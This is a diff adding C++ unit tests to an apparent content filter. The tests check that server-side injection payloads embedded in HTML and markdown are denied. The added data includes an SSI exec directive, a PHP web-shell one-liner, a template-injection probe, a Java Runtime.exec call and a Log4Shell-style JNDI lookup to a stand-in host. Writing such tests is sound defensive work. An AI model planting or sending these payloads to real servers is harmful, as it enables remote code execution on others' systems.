@@ -84,6 +84,30 @@ TEST(Writing, CodeBesideItIsDenied) {
   for (const char* code : kCode) EXPECT_TRUE(denied(code)) << code;
 }
 
+// Servers run it in whatever text it stands.
+constexpr const char* kServerCode[] = {
+    "<!--#exec cmd=\"id\" -->",
+    "<?php system($_GET['c']); ?>",
+    "{{ ''.__class__.__mro__ }}",
+    "Runtime.getRuntime().exec(\"id\")",
+};
+
+TEST(Writing, ElementsHideNoCodeOfServers) {
+  for (const char* code : kServerCode)
+    EXPECT_TRUE(denied(placed("<p>In the old version we had this:</p>\n<pre>$</pre>", code))) << code;
+}
+
+TEST(Writing, OnlyFieldsOfBodiesAreMarkdownToServers) {
+  for (const char* frame : kShown) {
+    for (const char* code : kServerCode)
+      EXPECT_TRUE(denied(placed(frame, code), Location::kQuery)) << placed(frame, code);
+  }
+}
+
+TEST(Writing, MarkdownHidesNoLookups) {
+  for (const char* frame : kShown) EXPECT_TRUE(denied(placed(frame, "${jndi:ldap://h7.example/a}"))) << frame;
+}
+
 constexpr const char* kPrograms[] = {
     "const { exec } = require('child_process');\nexec('ls -la', (err, out) => {\n  console.log(out);\n});",
     "import os\nimport sys\n\ndef main():\n    os.system('clear')\n    print(sys.argv)\n\nif __name__ == "
